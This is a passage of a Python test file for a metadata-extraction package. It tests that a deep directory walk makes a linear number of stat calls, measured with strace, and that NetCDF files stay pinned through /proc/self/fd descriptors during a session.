    """Linear in depth: the walk used a realpath (a stat per component) per entry: 1,500 levels cost 1.1 million stats."""
    if shutil.which("strace") is None:
        pytest.skip("strace counts the stats")
    root = str(tmp_path / "deep")
    _deep_tree(root, 1500)
    log = tmp_path / "count"
    try:
        out = run(["strace", "-f", "-c", "-o", str(log), "-e", "trace=stat,lstat,newfstatat,statx,fstatat64",
                   *SCAN, root, "-o", str(tmp_path / "cat")], timeout=900)
        assert out.returncode == 0, out.stderr[-2000:]
    finally:
        _remove_deep(root)
    total = int(next(line.split()[2] for line in log.read_text().splitlines() if line.rstrip().endswith("total")))
    assert total < 20 * 1500, f"{total} stat calls for 1,500 files in 1,500 levels"


def test_a_file_stays_pinned_while_a_session_keeps_it_open_and_readers_name_it_by_its_own_path(tmp_path):
    """Planning and summarizing share one open of a small file (``arrays.one_open``): the descriptor its handle was
    opened through must outlive the planning's pin, and the reader must know the file by its own name (a closed
    ``/proc/self/fd/N`` was reused by another file, and libnetcdf's ``filepath()`` was read as the file's path)."""
    from metaextract_dask.core import pin
    from metaextract_dask.readers import netcdf
    from metaextract_dask.readers.probe import probe

    path = make_nc(str(tmp_path / "classic.nc"), 2)  # even: NETCDF3_CLASSIC
    info = probe(path)
    with pin.session():
        with pin.pinned(path, info.etag):
            name = pin.opened(path)
            assert name.startswith("/proc/self/fd/")
            with netcdf.opened(path) as ds:
                assert netcdf.source_path(ds) == path
        assert pin.opened(path) == name and pin.original(name) == path  # the planning's pin ended; the session holds it
        with open(name, "rb") as f:
            assert f.read(3) == b"CDF"
    assert pin.opened(path) == path  # the session ended: nothing held
